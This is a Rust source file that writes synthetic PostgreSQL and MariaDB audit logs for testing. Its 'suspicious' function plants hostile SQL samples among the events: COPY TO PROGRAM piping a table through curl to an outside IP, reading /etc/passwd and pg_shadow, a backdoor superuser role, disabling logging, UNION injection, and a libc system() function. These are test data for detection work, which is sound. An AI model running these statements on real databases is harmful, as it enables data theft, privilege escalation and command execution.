//! The log corpora: one stream of events as PostgreSQL csvlog with pgaudit, as jsonlog, as MariaDB server_audit.

use std::fmt::Write as _;
use std::io::Write;

use anyhow::Result;

use crate::random::Random;
use crate::values::iin;
use crate::words::{KAZAKH, RUSSIAN};

/// The three formats.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Format {
    Csv,
    Json,
    Maria,
}

/// What happened.
enum Deed {
    /// An audited statement: class, command tag, text.
    Statement { class: &'static str, tag: &'static str, sql: String },
    /// Another log line: command tag, text, error number of MariaDB.
    Message { tag: &'static str, text: String, error: u32 },
}

struct Event {
    milliseconds: u64,
    user: &'static str,
    database: &'static str,
    host: String,
    port: u64,
    process: u64,
    line: u64,
    program: &'static str,
    table: &'static str,
    severity: &'static str,
    state: &'static str,
    deed: Deed,
}

/// Writes `lines` events; the same seed gives the same events in every format.
pub(crate) fn write(out: &mut impl Write, format: Format, lines: u64, seed: u64) -> Result<()> {
    let mut random = Random::new(seed);
    let mut line = String::new();
    for index in 0..lines {
        let event = event(index, &mut random);
        line.clear();
        match format {
            Format::Csv => csv(&event, &mut line)?,
            Format::Json => json(&event, &mut line)?,
            Format::Maria => maria(&event, index, &mut line)?,
        }
        out.write_all(line.as_bytes())?;
    }
    Ok(())
}

fn event(index: u64, random: &mut Random) -> Event {
    let user = random.pick(&[
        "app_web",
        "app_web",
        "app_web",
        "app_crm",
        "app_crm",
        "etl",
        "report",
        "postgres",
        "dba_askar",
        "hr_user",
    ]);
    let database = random.pick(&["crm", "crm", "billing", "hr", "egov"]);
    let host = format!("10.{}.{}.{}", random.below(4), random.below(256), random.range(1, 254));
    let program = random.pick(&[
        "psql",
        "crm-api",
        "crm-api",
        "DBeaver 24.1",
        "pgAdmin 4",
        "node-postgres",
        "PostgreSQL JDBC Driver",
        "etl.py",
    ]);
    let table = random.pick(&[
        "orders",
        "orders",
        "payments",
        "events",
        "products",
        "sessions",
        "customers",
        "persons",
        "salary",
        "patients",
    ]);
    let mut event = Event {
        milliseconds: index * 137 / 10,
        user,
        database,
        port: random.range(30_000, 60_000),
        process: random.range(1000, 32_000),
        line: random.range(1, 5000),
        host,
        program,
        table,
        severity: "LOG",
        state: "00000",
        deed: Deed::Message { tag: "idle", text: String::new(), error: 0 },
    };
    event.deed = deed(&mut event, random);
    event
}

fn statement(class: &'static str, tag: &'static str, sql: String) -> Deed {
    Deed::Statement { class, tag, sql }
}

fn deed(event: &mut Event, random: &mut Random) -> Deed {
    let table = event.table;
    let (word, kazakh, number) = (random.pick(RUSSIAN), random.pick(KAZAKH), random.below(1_000_000));
    let person = iin(random);
    match random.below(1000) {
        share @ 900..=997 => message(event, share, number, random),
        0..=519 => statement(
            "READ",
            "SELECT",
            match random.below(4) {
                0 => format!("SELECT id, note, amount FROM {table} WHERE id = {number}"),
                1 => format!(
                    "SELECT t.id, t.created, c.title FROM {table} t JOIN catalog c ON c.id = t.cid WHERE t.note LIKE \
                     '%{word}%' AND t.created > '2026-01-01' ORDER BY t.created DESC LIMIT 50"
                ),
                2 => format!("SELECT count(*) FROM {table} WHERE status = '{kazakh}'"),
                _ => format!("SELECT * FROM {table} WHERE iin = '{person}'"),
            },
        ),
        520..=719 => {
            let (other, amount, cents) = (random.pick(RUSSIAN), random.below(100_000), random.below(100));
            let values = format!("({number}, '{word}', '{kazakh}, {other}', {amount}.{cents:02})");
            statement("WRITE", "INSERT", format!("INSERT INTO {table} (id, note, descr, amount) VALUES {values}"))
        }
        720..=869 => statement(
            "WRITE",
            "UPDATE",
            format!("UPDATE {table} SET note = '{word}', updated = now() WHERE id = {number}"),
        ),
        870..=899 => statement("WRITE", "DELETE", format!("DELETE FROM {table} WHERE id = {number}")),
        _ => suspicious(table, random),
    }
}

/// Lines that no audit writes: connections, errors, failed passwords.
fn message(event: &mut Event, share: u64, number: u64, random: &mut Random) -> Deed {
    let (user, database) = (event.user, event.database);
    let give = |tag, text, error| Deed::Message { tag, text, error };
    match share {
        900..=949 => {
            let program = event.program;
            let text = format!(
                "connection authorized: user={user} database={database} application_name={program} SSL enabled \
                 (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)"
            );
            give("authentication", text, 0)
        }
        950..=979 => {
            let (minute, second, milli) = (random.below(60), random.below(60), random.below(1000));
            let time = format!("0:{minute:02}:{second:02}.{milli:03}");
            let (host, port) = (&event.host, event.port);
            let text =
                format!("disconnection: session time: {time} user={user} database={database} host={host} port={port}");
            give("idle", text, 0)
        }
        980..=989 => {
            (event.severity, event.state) = ("ERROR", "42P01");
            give("SELECT", format!("relation \"{}_{number}\" does not exist", event.table), 1146)
        }
        990..=994 => {
            let (whole, part) = (random.below(9000), random.below(1000));
            give("SELECT", format!("duration: {whole}.{part:03} ms  statement: SELECT pg_sleep(0)"), 0)
        }
        _ => {
            (event.severity, event.state) = ("FATAL", "28P01");
            give("authentication", format!("password authentication failed for user \"{user}\""), 1045)
        }
    }
}

/// Two of a thousand: what someone should look at.
fn suspicious(table: &str, random: &mut Random) -> Deed {
    let fixed = |class, tag, sql: &str| statement(class, tag, sql.to_owned());
    match random.below(16) {
        0 => statement("DDL", "DROP TABLE", format!("DROP TABLE {table}")),
        1 => fixed("ROLE", "GRANT", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO app_web"),
        2 => statement("READ", "COPY", format!("COPY {table} TO PROGRAM 'curl -T - 10.9.9.9'")),
        3 => fixed("READ", "COPY", "COPY (SELECT * FROM customers) TO '/tmp/x.csv' CSV"),
        4 => fixed("ROLE", "ALTER ROLE", "ALTER ROLE etl WITH SUPERUSER"),
        5 => fixed("ROLE", "CREATE ROLE", "CREATE ROLE backdoor LOGIN PASSWORD 'x' SUPERUSER"),
        6 => fixed("READ", "SELECT", "SELECT pg_read_file('/etc/passwd')"),
        7 => fixed("READ", "SELECT", "SELECT * FROM pg_shadow"),
        8 => fixed("MISC", "ALTER SYSTEM", "ALTER SYSTEM SET log_statement = 'none'"),
        9 => statement(
            "READ",
            "SELECT",
            format!("SELECT id FROM {table} WHERE id = 1 UNION SELECT usename FROM pg_user--"),
        ),
        10 => fixed("READ", "SELECT", "SELECT * FROM customers"),
        11 => fixed("DDL", "TRUNCATE TABLE", "TRUNCATE TABLE events"),
        12 => fixed("DDL", "CREATE EXTENSION", "CREATE EXTENSION dblink"),
        13 => statement("WRITE", "DELETE", format!("DELETE FROM {table}")),
        14 => fixed(
            "DDL",
            "CREATE FUNCTION",
            "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT",
        ),
        _ => fixed("READ", "SELECT", "SELECT lo_export(16401, '/var/lib/postgresql/shell.so')"),
    }
}

fn time(milliseconds: u64) -> String {
    let seconds = milliseconds / 1000;
    let (day, hour, minute) = (1 + seconds / 86_400 % 28, seconds / 3600 % 24, seconds / 60 % 60);
    format!("2026-08-{day:02} {hour:02}:{minute:02}:{:02}.{:03}", seconds % 60, milliseconds % 1000)
}

impl Event {
    fn tag(&self) -> &'static str {
        match &self.deed {
            Deed::Statement { tag, .. } | Deed::Message { tag, .. } => tag,
        }
    }

    /// The message of a PostgreSQL log line.
    fn text(&self) -> String {
        match &self.deed {
            Deed::Message { text, .. } => text.clone(),
            Deed::Statement { class, tag, sql } => {
                let quoted = sql.contains([',', '"']);
                let sql = if quoted { format!("\"{}\"", sql.replace('"', "\"\"")) } else { sql.clone() };
                let object = matches!(*class, "READ" | "WRITE");
                let (kind, name) =
                    if object { ("TABLE", format!("public.{}", self.table)) } else { ("", String::new()) };
                format!("AUDIT: SESSION,{},1,{class},{tag},{kind},{name},{sql},<not logged>", self.line)
            }
        }
    }

    fn session(&self) -> String {
        format!("66b1f{:03x}.{:x}", self.process & 0xFFF, self.process)
    }

    fn query(&self) -> i64 {
        (self.process * 2_654_435_761 + self.line) as i64
    }

    /// Start of the session: a minute before, without fractions.
    fn began(&self) -> String {
        let mut time = time(self.milliseconds.saturating_sub(60_000));
        time.truncate(19);
        time
    }
}

fn csv(event: &Event, out: &mut String) -> Result<()> {
    let Event { user, database, process, host, port, line, severity, state, program, .. } = event;
    write!(out, "{} +05,\"{user}\",\"{database}\",{process},", time(event.milliseconds))?;
    write!(out, "\"{host}:{port}\",{},{line},\"{}\",", event.session(), event.tag())?;
    write!(out, "{} +05,{}/{line},0,{severity},{state},", event.began(), process % 100)?;
    write!(out, "\"{}\",,,,,,,,,", event.text().replace('"', "\"\""))?;
    writeln!(out, "\"{program}\",\"client backend\",,{}", event.query())?;
    Ok(())
}

fn json(event: &Event, out: &mut String) -> Result<()> {
    let Event { user, database, process, host, port, line, severity, state, program, .. } = event;
    write!(out, "{{\"timestamp\":\"{} +05\",\"user\":\"{user}\"", time(event.milliseconds))?;
    write!(out, ",\"dbname\":\"{database}\",\"pid\":{process},\"remote_host\":\"{host}\",\"remote_port\":{port}")?;
    write!(out, ",\"session_id\":\"{}\",\"line_num\":{line},\"ps\":\"{}\"", event.session(), event.tag())?;
    write!(out, ",\"session_start\":\"{} +05\",\"vxid\":\"{}/{line}\"", event.began(), process % 100)?;
    write!(out, ",\"txid\":0,\"error_severity\":\"{severity}\",\"state_code\":\"{state}\",\"message\":\"")?;
    out.push_str(&event.text().replace('\\', "\\\\").replace('"', "\\\""));
    write!(out, "\",\"application_name\":\"{program}\",\"backend_type\":\"client backend\"")?;
    writeln!(out, ",\"query_id\":{}}}", event.query())?;
    Ok(())
}

fn maria(event: &Event, index: u64, out: &mut String) -> Result<()> {
    let Event { user, database, process, host, .. } = event;
    let time = time(event.milliseconds);
    write!(out, "202608{} {},dbhost1,{user},{host},{process},", &time[8..10], &time[11..19])?;
    match &event.deed {
        Deed::Statement { sql, .. } => {
            let sql = sql.replace('\\', "\\\\").replace('\'', "\\'");
            writeln!(out, "{index},QUERY,{database},'{sql}',0")?;
        }
        Deed::Message { tag, error, .. } => {
            let operation = match (*error, *tag) {
                (1045, _) => "FAILED_CONNECT",
                (_, "idle") => "DISCONNECT",
                _ => "CONNECT",
            };
            writeln!(out, "0,{operation},{database},,{error}")?;
        }
    }
    Ok(())
}
